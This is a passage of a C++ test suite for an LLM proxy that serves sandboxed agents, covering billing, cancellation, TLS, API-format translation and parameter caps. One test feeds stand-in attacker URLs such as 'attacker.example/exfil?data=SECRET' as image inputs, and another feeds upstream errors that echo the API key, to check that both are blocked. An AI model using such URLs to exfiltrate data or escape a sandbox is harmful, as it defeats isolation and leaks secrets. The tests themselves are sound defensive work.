    auto r = server_->Sb(verb::post, "/sandbox/v1/llm/chat", token, b);
    EXPECT_EQ(r.status, 400u) << b.substr(0, 80) << " -> " << r.body;
    EXPECT_FALSE(r.error_code().empty());
  }
  EXPECT_EQ(up_->request_count(), 0u);
  EXPECT_EQ(Conversation(id).size(), 1u);
}

TEST_F(LlmProxyTest, DeletingTheSessionCancelsTheCallInFlight) {
  SetUpBoth();
  auto [id, token] = Session();
  up_->Enqueue(Reply::Hang());
  HttpResult r;
  std::thread t([&, token = token] { r = Chat(token, Json{{"messages", Json::array()}}); });
  ASSERT_TRUE(up_->WaitForRequests(1));
  EXPECT_EQ(server_->Op(verb::delete_, "/v1/sessions/" + id).status, 200u);
  t.join();
  EXPECT_EQ(r.status, 410u) << r.body;
  EXPECT_NE(Events(id).find("cancelled"), std::string::npos);
}

// Finding 1 of the 2026-12 review: a sandbox that reads a streamed reply up to its
// finish_reason and hangs up before the usage chunk was charged nothing, so budgets never
// tripped. Whatever the upstream produced is charged now, and the budget holds.
TEST_F(LlmProxyTest, ASandboxThatHangsUpAfterTheFinishReasonPaysForTheWholeReply) {
  SetUpBoth();
  for (const char* model : {"default", "claude"}) {
    SCOPED_TRACE(model);
    auto [id, token] = Session(
        fmt::format(R"({{"task":"t","model":"{}","limits":{{"max_tokens":2000}}}})", model));
    // The upstream takes its time between events, as a real one does, so that the sandbox is
    // gone before the usage arrives.
    up_->Enqueue(Reply::Text("t0 t1 t2 t3 t4 t5 t6 t7 t8 t9")
                     .WithChunks(10)
                     .WithEventDelay(200ms)
                     .WithUsage({.input_tokens = 1000, .output_tokens = 1000}));
    std::string got = StreamAndHangUp(
        token, Json{{"messages", Json::array()}, {"stream", true}, {"model", model}},
        R"("finish_reason":"stop")");
    EXPECT_EQ(got.find("[DONE]"), std::string::npos);
    auto calls = LlmCalls(id, 1);
    ASSERT_EQ(calls.size(), 1u);
    EXPECT_EQ(calls[0]["input_tokens"], 1000) << calls[0];
    EXPECT_EQ(calls[0]["output_tokens"], 1000) << calls[0];
    EXPECT_FALSE(calls[0].contains("estimated"))
        << "the upstream's own usage, read after the sandbox left";
    Json usage = SessionUsage(id);
    EXPECT_EQ(usage["input_tokens"], 1000);
    EXPECT_EQ(usage["output_tokens"], 1000);
    EXPECT_EQ(usage["llm_calls"], 1);
    // The reply was complete: it is the conversation's next turn, as if the sandbox had read it
    // all.
    EXPECT_EQ(Conversation(id).back()["content"], "t0 t1 t2 t3 t4 t5 t6 t7 t8 t9");
    // The budget is spent: the next call is refused and never reaches the upstream.
    const size_t before = up_->request_count();
    auto next = Chat(token, Json{{"messages", Json::array()}, {"model", model}});
    EXPECT_EQ(next.status, 402u) << next.body;
    EXPECT_EQ(next.error_code(), "budget_exhausted");
    EXPECT_EQ(up_->request_count(), before);
  }
  EXPECT_TRUE(WaitForMetric(
      *server_, "airlock_llm_tokens_total{model=\"default\",direction=\"output\"} 1000"));
  EXPECT_TRUE(WaitForMetric(*server_,
                            "airlock_llm_tokens_total{model=\"claude\",direction=\"input\"} 1000"));
}

// A sandbox that hangs up in the middle of the reply stops the upstream; nothing joins the
// conversation, but the prompt and what was streamed are charged as an estimate.
TEST_F(LlmProxyTest, ASandboxThatHangsUpMidStreamStopsTheUpstreamAndPaysAnEstimate) {
  SetUpBoth();
  for (const char* model : {"default", "claude"}) {
    SCOPED_TRACE(model);
    auto [id, token] =
        Session(fmt::format(R"({{"task":"a task of some length","model":"{}"}})", model));
    up_->Enqueue(Reply::Text("a b c d e f g h").WithChunks(8).WithEventDelay(200ms));
    StreamAndHangUp(token,
                    Json{{"messages", Json::array({UserMsg(std::string(400, 'x'))})},
                         {"stream", true},
                         {"model", model}},
                    R"("content":"a)");
    auto calls = LlmCalls(id, 1);
    ASSERT_EQ(calls.size(), 1u);
    EXPECT_EQ(calls[0]["outcome"], "sandbox_gone") << calls[0];
    EXPECT_EQ(calls[0]["estimated"], true) << calls[0];
    EXPECT_GE(calls[0]["input_tokens"].get<int64_t>(), 100)
        << "the prompt: 400 bytes of new message and more";
    EXPECT_GT(calls[0]["output_tokens"].get<int64_t>(), 0) << calls[0];
    Json usage = SessionUsage(id);
    EXPECT_EQ(usage["llm_calls"], 1);
    EXPECT_EQ(usage["input_tokens"], calls[0]["input_tokens"]);
    EXPECT_EQ(usage["output_tokens"], calls[0]["output_tokens"]);
    EXPECT_GT(usage["cost_usd"].get<double>(), 0);
    EXPECT_EQ(Conversation(id).size(), 1u) << "half a reply is not stored";
    // The session is free for the next call.
    EXPECT_EQ(Chat(token, Json{{"messages", Json::array()}, {"model", model}}).status, 200u);
  }
}

// The non-streamed call of a sandbox that hangs up before the answer: the upstream answered,
// so the reply is stored and charged (a regression guard beside the streamed cases above).
TEST_F(LlmProxyTest, ANonStreamedCallTheSandboxHangsUpOnIsStillCharged) {
  SetUpBoth();
  auto [id, token] = Session(R"({"task":"t","limits":{"max_tokens":2000}})");
  up_->Enqueue(
      Reply::Text("done").WithDelay(500ms).WithUsage({.input_tokens = 1500, .output_tokens = 700}));
  int fd = RawConnect(server_->sb_port());
  ASSERT_GE(fd, 0);
  const std::string b = R"({"messages":[]})";
  ASSERT_TRUE(WriteAll(
      fd, "POST /sandbox/v1/llm/chat HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + token +
              "\r\nContent-Type: application/json\r\nContent-Length: " + std::to_string(b.size()) +
              "\r\n\r\n" + b));
  ASSERT_TRUE(up_->WaitForRequests(1));
  linger lg{1, 0};
  ::setsockopt(fd, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg));
  ::close(fd);
  auto calls = LlmCalls(id, 1);
  ASSERT_EQ(calls.size(), 1u);
  EXPECT_EQ(calls[0]["outcome"], "ok");
  EXPECT_EQ(SessionUsage(id)["input_tokens"], 1500);
  EXPECT_EQ(SessionUsage(id)["output_tokens"], 700);
  EXPECT_EQ(Chat(token, Json{{"messages", Json::array()}}).status, 402u);
}

// Finding 7: an image URL would have the provider (or a local model server) fetch what the
// sandbox names: an outbound channel from a sandbox without network. Only data: URLs pass.
TEST_F(LlmProxyTest, ImagesMustBeDataUrlsForEveryProvider) {
  SetUpBoth();
  auto image = [](const std::string& url) {
    return Json{
        {"role", "user"},
        {"content", Json::array({Json{{"type", "text"}, {"text", "what is this?"}},
                                 Json{{"type", "image_url"}, {"image_url", {{"url", url}}}}})}};
  };
  for (const char* model : {"default", "claude"}) {
    SCOPED_TRACE(model);
    auto [id, token] = Session(fmt::format(R"({{"task":"t","model":"{}"}})", model));
    for (const char* url :
         {"http://attacker.example/exfil?data=SECRET", "HTTPS://attacker.example/x.png",
          "ftp://attacker.example/x.png", "//attacker.example/x.png"}) {
      auto r = Chat(token, Json{{"messages", Json::array({image(url)})}, {"model", model}});
      EXPECT_EQ(r.status, 400u) << url << " -> " << r.body;
      EXPECT_EQ(r.error_code(), "invalid_argument");
      EXPECT_NE(r.body.find("data: URL"), std::string::npos) << r.body;
    }
    EXPECT_EQ(up_->request_count(), 0u) << "nothing of a refused call reaches the upstream";
    EXPECT_EQ(Conversation(id).size(), 1u);
  }
  auto [id, token] = Session();
  auto ok =
      Chat(token, Json{{"messages", Json::array({image("data:image/png;base64,iVBORw0KGgo=")})}});
  ASSERT_EQ(ok.status, 200u) << ok.body;
  EXPECT_EQ(up_->requests().back().Json()["messages"][1]["content"][1]["image_url"]["url"],
            "data:image/png;base64,iVBORw0KGgo=");
  auto [id2, token2] = Session(R"({"task":"t","model":"claude"})");
  auto ok2 =
      Chat(token2, Json{{"messages", Json::array({image("data:image/png;base64,iVBORw0KGgo=")})}});
  ASSERT_EQ(ok2.status, 200u) << ok2.body;
  EXPECT_EQ(up_->requests().back().Json()["messages"][0]["content"][2]["source"]["data"],
            "iVBORw0KGgo=");
}

// Finding 10: an upstream that echoes the key — as the 401's code, type or message, or in a
// 400's message as a piece of it, base64-encoded or upper-cased, or as a 5xx's code — leaks
// none of it to the sandbox, the log or the events.
TEST_F(LlmProxyTest, AnUpstreamThatEchoesTheKeyInAnyFormLeaksNoneOfIt) {
  StartUpstream();
  StartServer(ProxyOptions{.max_retries = 0});
  auto [id, token] = Session();
  const std::string key = kKey;
  struct Case {
    Reply reply;
    unsigned status;
    std::string kept;  // what of the provider's words the agent still gets
  };
  const std::vector<Case> cases = {
      {Reply::Error(401, "Incorrect API key provided: " + key).WithErrorType(key, key), 502,
       "(401)"},
      {Reply::Error(403, key).WithErrorType(Upper(key), key.substr(3)), 502, "(403)"},
      {Reply::Error(400, "maximum context length exceeded; key " + key.substr(3) + " b64 " +
                             Base64(key) + " upper " + Upper(key)),
       502, "maximum context length exceeded"},
      {Reply::Error(422, "bad request for key=" + Base64("Bearer " + key)), 502,
       "bad request for key="},
      {Reply::Error(500, "boom").WithErrorType("server_error", key), 502, "(500"},
  };
  std::vector<HttpResult> answers;
  const std::string logged = CaptureStderr(server_->home() + "/stderr.log", [&] {
    for (const auto& c : cases) {
      up_->Enqueue(c.reply);
      answers.push_back(Chat(token, Json{{"messages", Json::array({UserMsg("hello")})}}));
    }
  });
  ASSERT_EQ(answers.size(), cases.size());
  for (size_t i = 0; i < cases.size(); ++i) {
    SCOPED_TRACE(i);
    EXPECT_EQ(answers[i].status, cases[i].status) << answers[i].body;
    EXPECT_EQ(KeyLeak(answers[i].body), "") << answers[i].body;
    EXPECT_NE(answers[i].body.find(cases[i].kept), std::string::npos) << answers[i].body;
  }
  // 401/403: a fixed sentence with the status only, none of the upstream's words.
  EXPECT_EQ(answers[0].body.find("Incorrect API key"), std::string::npos) << answers[0].body;
  EXPECT_EQ(answers[0].body.find("[redacted]"), std::string::npos) << answers[0].body;
  EXPECT_NE(logged.find("llm call"), std::string::npos) << "the failures are logged";
  EXPECT_EQ(KeyLeak(logged), "") << logged;
  const std::string events = Events(id);
  EXPECT_EQ(KeyLeak(events), "") << events;
  EXPECT_EQ(LlmCalls(id, cases.size()).size(), cases.size());
  EXPECT_EQ(KeyLeak(server_->cp().metrics().Render()), "");
}

TEST_F(LlmProxyTest, KeepAliveConnectionsArePooled) {
  SetUpBoth();
  auto [id, token] = Session();
  for (int i = 0; i < 5; ++i)
    ASSERT_EQ(Chat(token, Json{{"messages", Json::array()}}).status, 200u);
  EXPECT_EQ(up_->connections_accepted(), 1u);
}

TEST_F(LlmProxyTest, AProviderWithoutIdleConnectionsOpensOnePerCall) {
  StartUpstream();
  ProxyOptions po;
  po.max_idle_connections = 0;
  StartServer(po);
  auto [id, token] = Session();
  for (int i = 0; i < 3; ++i)
    ASSERT_EQ(Chat(token, Json{{"messages", Json::array()}}).status, 200u);
  EXPECT_EQ(up_->connections_accepted(), 3u);
}

TEST_F(LlmProxyTest, TlsUpstreamsAreVerified) {
  std::string dir = MakeTempDir("airlock-pki");
  auto pki = fake::MakeTestPki(dir);
  ASSERT_TRUE(pki) << pki.error().message;
  fake::FakeUpstreamOptions o;
  o.cert_file = pki->cert_file;
  o.key_file = pki->key_file;
  StartUpstream(o);
  ASSERT_TRUE(up_->base_url().starts_with("https://"));
  {
    // Trusting the test CA: by address and by name.
    StartServer(ProxyOptions{.ca_file = pki->ca_file});
    auto [id, token] = Session();
    EXPECT_EQ(Chat(token, Json{{"messages", Json::array()}}).status, 200u);
    server_.reset();
    StartServer(ProxyOptions{.ca_file = pki->ca_file,
                             .base_url = fmt::format("https://localhost:{}", up_->port())});
    auto [id2, token2] = Session();
    EXPECT_EQ(Chat(token2, Json{{"messages", Json::array()}}).status, 200u);
    server_.reset();
  }
  {
    // The system store does not know the test CA.
    StartServer();
    auto [id, token] = Session();
    auto r = Chat(token, Json{{"messages", Json::array()}});
    EXPECT_EQ(r.status, 502u);
    EXPECT_NE(r.body.find("certificate verification failed"), std::string::npos) << r.body;
    server_.reset();
  }
  {
    // A certificate for another name.
    auto wrong = fake::MakeTestPki(MakeTempDir("airlock-pki"), {"wrong.example"}, {});
    ASSERT_TRUE(wrong);
    o.cert_file = wrong->cert_file;
    o.key_file = wrong->key_file;
    StartUpstream(o);
    StartServer(ProxyOptions{.ca_file = wrong->ca_file});
    auto [id, token] = Session();
    auto r = Chat(token, Json{{"messages", Json::array()}});
    EXPECT_EQ(r.status, 502u);
    EXPECT_NE(r.body.find("certificate verification failed"), std::string::npos) << r.body;
  }
  EXPECT_EQ(up_->request_count(), 0u);
}

TEST_F(LlmProxyTest, TheScriptedModelRepliesInOrderAndCarriesOnAfterARestart) {
  SetUpBoth();
  auto [id, token] = Session(R"({"task":"t","model":"scripted"})");
  auto r1 = Chat(token, Json{{"messages", Json::array()}});
  ASSERT_EQ(r1.status, 200u) << r1.body;
  EXPECT_EQ(r1.json()["message"]["tool_calls"][0]["function"]["name"], "shell");
  EXPECT_EQ(r1.json()["message"]["tool_calls"][0]["function"]["arguments"], R"({"cmd":"ls"})");
  EXPECT_TRUE(r1.json()["usage"]["estimated"].get<bool>());
  std::string call_id = r1.json()["message"]["tool_calls"][0]["id"];
  // Streamed, the second reply; the script position comes from the stored history.
  auto r2 = Chat(
      token,
      Json{{"messages",
            Json::array({Json{{"role", "tool"}, {"tool_call_id", call_id}, {"content", "a"}}})},
           {"stream", true}});
  ASSERT_EQ(r2.status, 200u);
  bool done = false;
  auto chunks = SseChunks(r2.body, &done);
  EXPECT_TRUE(done);
  EXPECT_EQ(chunks.front()["model"], "scripted");
  EXPECT_EQ(Conversation(id).back()["content"], "All done.");
  auto r3 = Chat(token, Json{{"messages", Json::array({UserMsg("more?")})}});
  EXPECT_NE(r3.json()["message"]["content"].get<std::string>().find("scripted model"),
            std::string::npos);
  EXPECT_EQ(up_->request_count(), 0u);
}

TEST_F(LlmProxyTest, AProviderWithoutItsKeyAnswers503AndTheServerStillStarts) {
  ::unsetenv(kKeyEnv);
  StartUpstream();
  StartServer();
  auto [id, token] = Session();
  auto r = Chat(token, Json{{"messages", Json::array()}});
  EXPECT_EQ(r.status, 503u);
  EXPECT_NE(r.body.find(kKeyEnv), std::string::npos) << r.body;
  EXPECT_EQ(up_->request_count(), 0u);
  // The scripted model needs no key.
  auto [id2, token2] = Session(R"({"task":"t","model":"scripted"})");
  EXPECT_EQ(Chat(token2, Json{{"messages", Json::array()}}).status, 200u);
}

// ---------------------------------------------------------------- the OpenAI face

TEST_F(LlmProxyTest, TheOpenAiFaceForwardsTheWholeConversationAndStoresEachMessageOnce) {
  SetUpBoth();
  auto [id, token] = Session(R"({"task":"count the files","models":["other"]})");
  Json conversation = Json::array({UserMsg("count the files")});
  auto r1 = Completions(token, Json{{"model", "default"}, {"messages", conversation}});
  ASSERT_EQ(r1.status, 200u) << r1.body;
  Json c1 = r1.json();
  EXPECT_EQ(c1["object"], "chat.completion");
  EXPECT_EQ(c1["model"], "default");
  EXPECT_EQ(c1["choices"][0]["finish_reason"], "stop");
  EXPECT_EQ(c1["choices"][0]["message"]["content"], "reply 1");
  EXPECT_GT(c1["usage"]["prompt_tokens"].get<int64_t>(), 0);
  EXPECT_EQ(c1["usage"]["total_tokens"].get<int64_t>(),
            c1["usage"]["prompt_tokens"].get<int64_t>() +
                c1["usage"]["completion_tokens"].get<int64_t>());
  EXPECT_TRUE(KeyLeak(r1.body).empty());

  // The client appends the reply as it got it (with the fields OpenAI's answers carry) and a
  // new question, and sends it all again.
  Json echoed = c1["choices"][0]["message"];
  echoed["refusal"] = nullptr;
  echoed["annotations"] = Json::array();
  conversation.push_back(echoed);
  conversation.push_back(UserMsg("and the directories?"));
  auto r2 = Completions(token, Json{{"model", "default"}, {"messages", conversation}});
  ASSERT_EQ(r2.status, 200u) << r2.body;

  auto reqs = up_->requests();
  ASSERT_EQ(reqs.size(), 2u);
  EXPECT_EQ(reqs[1].Header("authorization"), std::string("Bearer ") + kKey);
  Json sent = reqs[1].Json();
  ASSERT_EQ(sent["messages"].size(), 3u);
  EXPECT_EQ(sent["messages"][1]["content"], "reply 1");
  EXPECT_FALSE(sent["messages"][1].contains("refusal"));
  EXPECT_EQ(sent["messages"][2]["content"], "and the directories?");

  // Each message once, in order: the task, reply 1, the question, reply 2.
  Json conv = Conversation(id);
  ASSERT_EQ(conv.size(), 4u) << conv.dump();
  EXPECT_EQ(conv[0]["content"], "count the files");
  EXPECT_EQ(conv[1]["content"], "reply 1");
  EXPECT_EQ(conv[2]["content"], "and the directories?");
  EXPECT_EQ(conv[3]["content"], "reply 2");
  auto calls = LlmCalls(id, 2);
  ASSERT_EQ(calls.size(), 2u);
  EXPECT_EQ(calls[1]["face"], "openai");
  EXPECT_EQ(calls[0]["new_messages"], 0);
  EXPECT_EQ(calls[1]["new_messages"], 1);
  EXPECT_FALSE(calls[1].contains("history"));
  Json s = server_->Op(verb::get, "/v1/sessions/" + id).json();
  EXPECT_EQ(s["usage"]["llm_calls"], 2);
  EXPECT_EQ(s["usage"]["input_tokens"].get<int64_t>(),
            c1["usage"]["prompt_tokens"].get<int64_t>() +
                r2.json()["usage"]["prompt_tokens"].get<int64_t>());

  // The models this session may use.
  auto models = server_->Sb(verb::get, "/v1/models", token);
  ASSERT_EQ(models.status, 200u) << models.body;
  std::set<std::string> ids;
  const Json list = models.json();
  for (const auto& m : list["data"]) ids.insert(m["id"].get<std::string>());
  EXPECT_EQ(ids, (std::set<std::string>{"default", "other"}));
}

// Two face calls of one session at once, one rewriting the history it saw: the rewrite drops
// only what that call saw, never the exchange the other call stored meanwhile.
TEST_F(LlmProxyTest, ARewriteBesideAnotherCallDropsOnlyWhatItSaw) {
  SetUpBoth();
  auto [id, token] = Session();
  Json conversation = Json::array({UserMsg("count the files")});
  auto r = Completions(token, Json{{"model", "default"}, {"messages", conversation}});
  ASSERT_EQ(r.status, 200u) << r.body;
  conversation.push_back(r.json()["choices"][0]["message"]);  // [task, reply 1]
  up_->Enqueue(Reply::Text("after the summary").WithDelay(1500ms));
  up_->Enqueue(Reply::Text("extended").WithDelay(200ms));
  HttpResult rewrite;
  std::thread slow([&, token = token] {
    rewrite =
        Completions(token, Json{{"model", "default"},
                                {"messages", Json::array({UserMsg("summary: one reply so far")})}});
  });
  ASSERT_TRUE(up_->WaitForRequests(2));
  Json extended = conversation;
  extended.push_back(UserMsg("and the directories?"));
  auto fast = Completions(token, Json{{"model", "default"}, {"messages", extended}});
  EXPECT_EQ(fast.status, 200u) << fast.body;
  slow.join();
  EXPECT_EQ(rewrite.status, 200u) << rewrite.body;
  Json conv = Conversation(id);
  std::vector<std::string> contents;
  for (const auto& m : conv) contents.push_back(m.value("content", ""));
  EXPECT_EQ(contents, (std::vector<std::string>{"and the directories?", "extended",
                                                "summary: one reply so far", "after the summary"}))
      << conv.dump();
}

TEST_F(LlmProxyTest, AClientThatRewritesItsHistoryIsRecordedAsSuchAndNeverDoubled) {
  SetUpBoth();
  auto [id, token] = Session();
  Json conversation = Json::array({UserMsg("count the files")});
  for (const char* q : {"first", "second"}) {
    auto r = Completions(token, Json{{"model", "default"}, {"messages", conversation}});
    ASSERT_EQ(r.status, 200u) << r.body;
    conversation.push_back(r.json()["choices"][0]["message"]);
    conversation.push_back(UserMsg(q));
  }
  // Summarised: the task stays, the rest becomes one message.
  Json summarised = Json::array({UserMsg("count the files"), UserMsg("summary: 2 replies so far")});
  auto r = Completions(token, Json{{"model", "default"}, {"messages", summarised}});
  ASSERT_EQ(r.status, 200u) << r.body;
  EXPECT_EQ(up_->requests().back().Json()["messages"].size(), 2u);
  Json conv = Conversation(id);
  ASSERT_EQ(conv.size(), 3u) << conv.dump();
  EXPECT_EQ(conv[1]["content"], "summary: 2 replies so far");
  auto calls = LlmCalls(id, 3);
  ASSERT_EQ(calls.size(), 3u);
  EXPECT_EQ(calls[2]["history"], (Json{{"kept", 1}, {"superseded", 3}}));

  // It carries on from the summary: recognised, nothing superseded, nothing doubled.
  summarised.push_back(r.json()["choices"][0]["message"]);
  summarised.push_back(UserMsg("go on"));
  ASSERT_EQ(Completions(token, Json{{"model", "default"}, {"messages", summarised}}).status, 200u);
  conv = Conversation(id);
  ASSERT_EQ(conv.size(), 5u) << conv.dump();
  EXPECT_EQ(conv[3]["content"], "go on");
  calls = LlmCalls(id, 4);
  ASSERT_EQ(calls.size(), 4u);
  EXPECT_FALSE(calls[3].contains("history"));
  EXPECT_EQ(calls[3]["new_messages"], 1);
}

TEST_F(LlmProxyTest, TheOpenAiFaceTakesTheClientsParametersUnderTheOperatorsPinsAndCaps) {
  SetUpBoth();
  auto [id, token] = Session(R"({"task":"t","models":["other","capped"]})");
  Json msgs = Json::array({UserMsg("t")});
  auto call = [&](const std::string& model, Json extra) {
    Json body{{"model", model}, {"messages", msgs}};
    body.update(extra);
    auto r = Completions(token, body);
    EXPECT_EQ(r.status, 200u) << r.body;
    return up_->requests().back().Json();
  };
  Json sent = call("default", Json{{"temperature", 0.2},
                                   {"top_p", 0.9},
                                   {"max_completion_tokens", 50},
                                   {"stop", "END"},
                                   {"seed", 7},
                                   {"user", "someone"},
                                   {"store", true}});
  EXPECT_EQ(sent["temperature"], 0.2);
  EXPECT_EQ(sent["top_p"], 0.9);
  EXPECT_EQ(sent["max_tokens"], 50);
  EXPECT_EQ(sent["stop"], "END");
  EXPECT_EQ(sent["seed"], 7);
  EXPECT_FALSE(sent.contains("user"));
  EXPECT_FALSE(sent.contains("store"));
  EXPECT_EQ(sent["model"], "gpt-test");
  // The operator pinned temperature on "other"; "capped" allows 100 output tokens at most.
  EXPECT_EQ(call("other", Json{{"temperature", 1.5}})["temperature"], 0.5);
  EXPECT_EQ(call("capped", Json{{"max_tokens", 5000}})["max_tokens"], 100);
  EXPECT_EQ(call("capped", Json::object())["max_tokens"], 100);
  EXPECT_EQ(call("capped", Json{{"max_tokens", 10}})["max_tokens"], 10);

  // What it may not set is refused by name, and nothing reaches the upstream.
  const size_t before = up_->requests().size();
  for (const Json& bad :
       {Json{{"logit_bias", Json{{"50256", -100}}}}, Json{{"n", 2}}, Json{{"temperature", "hot"}},
        Json{{"max_tokens", -1}}, Json{{"stop", Json::array({"a", "b", "c", "d", "e"})}}}) {
    Json body{{"model", "default"}, {"messages", msgs}};
    body.update(bad);
    auto r = Completions(token, body);
    EXPECT_EQ(r.status, 400u) << bad.dump();
    EXPECT_NE(r.body.find(bad.begin().key()), std::string::npos) << r.body;
  }
  EXPECT_EQ(Completions(token, Json{{"messages", msgs}}).status, 400u);  // no model
  // Members of the wrong type anywhere: a clear 400, never an internal error.
  for (const Json& bad :
       {Json::array({Json{{"role", 5}, {"content", "x"}}}),
        Json::array({Json{{"role", "user"}, {"content", Json::array({Json{{"type", 7}}})}}}),
        Json::array({Json{{"role", Json::object()}}}), Json::array({"just text"})}) {
    auto r = Completions(token, Json{{"model", "default"}, {"messages", bad}});
    EXPECT_EQ(r.status, 400u) << bad.dump() << " -> " << r.body;
  }
  EXPECT_EQ(Completions(token, Json{{"model", "default"},
                                    {"messages", msgs},
                                    {"tool_choice", {{"type", 3}, {"function", {{"name", 1}}}}}})
                .status,
            400u);
  EXPECT_EQ(Completions(token, Json{{"model", "default"}, {"messages", Json::array()}}).status,
            400u);
  EXPECT_EQ(Completions(token, Json{{"model", "claude"}, {"messages", msgs}}).status, 403u);
  EXPECT_EQ(up_->requests().size(), before);
}

TEST_F(LlmProxyTest, AnOpenAiClientTalksToAnAnthropicModelWithToolsStreamedAndNot) {
  SetUpBoth();
  auto [id, token] = Session(R"({"task":"where am I","model":"claude"})");
  Json tools = Json::array({Json{
      {"type", "function"},
      {"function",
       {{"name", "shell"},
        {"parameters", {{"type", "object"}, {"properties", {{"cmd", {{"type", "string"}}}}}}}}}}});
  Json conversation =
      Json::array({Json{{"role", "developer"}, {"content", "Be brief."}}, UserMsg("where am I")});
  up_->Enqueue(Reply::Tools({{"toolu_1", "shell", R"({"cmd":"pwd"})"}}, "Checking."));
  auto r1 = Completions(token, Json{{"model", "claude"},
                                    {"messages", conversation},
                                    {"tools", tools},
                                    {"tool_choice", "required"},
                                    {"stop", Json::array({"###"})}});
  ASSERT_EQ(r1.status, 200u) << r1.body;
  Json sent = up_->requests().back().Json();
  EXPECT_EQ(up_->requests().back().target, "/v1/messages");
  EXPECT_EQ(sent["system"], "Be brief.");
  EXPECT_EQ(sent["tool_choice"], (Json{{"type", "any"}}));
  EXPECT_EQ(sent["stop_sequences"], Json::array({"###"}));
  EXPECT_EQ(sent["max_tokens"], 1000);  // the alias's pinned max_tokens
  Json reply = r1.json()["choices"][0]["message"];
  EXPECT_EQ(r1.json()["choices"][0]["finish_reason"], "tool_calls");
  ASSERT_EQ(reply["tool_calls"].size(), 1u);
  EXPECT_EQ(reply["tool_calls"][0]["id"], "toolu_1");

  // The tool's result, streamed, with the usage at the end.
  conversation.push_back(reply);
  conversation.push_back(
      Json{{"role", "tool"}, {"tool_call_id", "toolu_1"}, {"content", "/home/sandbox"}});
  up_->Enqueue(Reply::Text("You are in /home/sandbox.").WithChunks(3));
  auto r2 = Completions(token, Json{{"model", "claude"},
                                    {"messages", conversation},
                                    {"tools", tools},
                                    {"stream", true},
                                    {"stream_options", {{"include_usage", true}}}});
  ASSERT_EQ(r2.status, 200u) << r2.body;
  EXPECT_TRUE(KeyLeak(r2.body).empty());
  bool done = false;
  auto chunks = SseChunks(r2.body, &done);
  EXPECT_TRUE(done);
  ASSERT_GE(chunks.size(), 3u);
  std::string text;
  for (size_t i = 0; i + 1 < chunks.size(); ++i) {
    EXPECT_EQ(chunks[i]["model"], "claude");
    EXPECT_EQ(chunks[i]["id"], chunks[0]["id"]);
    EXPECT_FALSE(chunks[i].contains("usage"));
    for (const auto& ch : chunks[i]["choices"]) {
      if (ch["delta"].contains("content") && ch["delta"]["content"].is_string())
        text += ch["delta"]["content"];
    }
  }
  EXPECT_EQ(text, "You are in /home/sandbox.");
  const Json& last = chunks.back();
  EXPECT_TRUE(last["choices"].empty());
  Json usage = SessionUsage(id);
  auto calls = LlmCalls(id, 2);
  ASSERT_EQ(calls.size(), 2u);
  EXPECT_EQ(last["usage"]["prompt_tokens"], calls[1]["input_tokens"]);
  EXPECT_EQ(last["usage"]["completion_tokens"], calls[1]["output_tokens"]);

  // The rewrite put the system prompt first.
  ExpectToolLoopStoredOnce(id, "toolu_1", "You are in /home/sandbox.");
  EXPECT_EQ(calls[0]["history"], (Json{{"kept", 0}, {"superseded", 1}}));
  EXPECT_FALSE(calls[1].contains("history"));
}

// ---------------------------------------------------------------- the Anthropic face

// The events of an Anthropic SSE body: (event, data) in order.
std::vector<std::pair<std::string, Json>> AnthropicEvents(const std::string& body) {
  std::vector<std::pair<std::string, Json>> out;
  size_t pos = 0;
  while ((pos = body.find("event: ", pos)) != std::string::npos) {
    size_t nl = body.find('\n', pos);
    std::string event = body.substr(pos + 7, nl - pos - 7);
    size_t data = body.find("data: ", nl);
    size_t end = body.find("\n\n", data);
    out.emplace_back(event, ParseJson(body.substr(data + 6, end - data - 6)).value_or(Json()));
    pos = end;
  }
  return out;
}

TEST_F(LlmProxyTest, AnAnthropicClientTalksToEitherUpstreamWithToolsStreamedAndNot) {
  SetUpBoth();
  auto [id, token] = Session(R"({"task":"where am I","model":"claude","models":["default"]})");
  // As Anthropic's clients send it: the key in x-api-key, no bearer.
  auto messages = [&](const Json& body) {
    return server_->Sb(verb::post, "/v1/messages", "", DumpJson(body),
                       {{"x-api-key", token}, {"anthropic-version", "2023-06-01"}});
  };
  Json tools = Json::array({Json{
      {"name", "shell"},
      {"description", "run a command"},
      {"input_schema", {{"type", "object"}, {"properties", {{"cmd", {{"type", "string"}}}}}}}}});
  Json conversation = Json::array({Json{{"role", "user"}, {"content", "where am I"}}});

  // To the OpenAI upstream, not streamed: a tool call.
  up_->Enqueue(Reply::Tools({{"call_9", "shell", R"({"cmd": "pwd"})"}}, "Checking."));
  auto r1 = messages(Json{{"model", "default"},
                          {"max_tokens", 300},
                          {"system", "Be brief."},
                          {"messages", conversation},
                          {"tools", tools},
                          {"tool_choice", {{"type", "tool"}, {"name", "shell"}}},
                          {"stop_sequences", Json::array({"###"})}});
  ASSERT_EQ(r1.status, 200u) << r1.body;
  EXPECT_TRUE(KeyLeak(r1.body).empty());
  auto sent = up_->requests().back();
  EXPECT_EQ(sent.target, "/v1/chat/completions");
  Json body = sent.Json();
  EXPECT_EQ(body["messages"][0], (Json{{"role", "system"}, {"content", "Be brief."}}));
  EXPECT_EQ(body["tools"][0]["function"]["parameters"]["properties"]["cmd"]["type"], "string");
  EXPECT_EQ(body["tool_choice"], (Json{{"type", "function"}, {"function", {{"name", "shell"}}}}));
  EXPECT_EQ(body["stop"], Json::array({"###"}));
  EXPECT_EQ(body["max_tokens"], 300);
  Json m1 = r1.json();
  EXPECT_EQ(m1["type"], "message");
  EXPECT_EQ(m1["model"], "default");
  EXPECT_EQ(m1["stop_reason"], "tool_use");
  ASSERT_EQ(m1["content"].size(), 2u) << m1.dump();
  EXPECT_EQ(m1["content"][0], (Json{{"type", "text"}, {"text", "Checking."}}));
  EXPECT_EQ(m1["content"][1]["type"], "tool_use");
  EXPECT_EQ(m1["content"][1]["id"], "call_9");
  EXPECT_EQ(m1["content"][1]["input"], (Json{{"cmd", "pwd"}}));
  EXPECT_GT(m1["usage"]["input_tokens"].get<int64_t>(), 0);

  // The client appends the reply as it got it and the tool's result; to the Anthropic
  // upstream, streamed.
  conversation.push_back(Json{{"role", "assistant"}, {"content", m1["content"]}});
  conversation.push_back(Json{{"role", "user"},
                              {"content", Json::array({Json{{"type", "tool_result"},
                                                            {"tool_use_id", "call_9"},
                                                            {"content", "/home/sandbox"}}})}});
  up_->Enqueue(Reply::Text("You are in /home/sandbox.").WithChunks(3));
  auto r2 = messages(Json{{"model", "claude"},
                          {"max_tokens", 300},
                          {"system", "Be brief."},
                          {"messages", conversation},
                          {"tools", tools},
                          {"stream", true}});
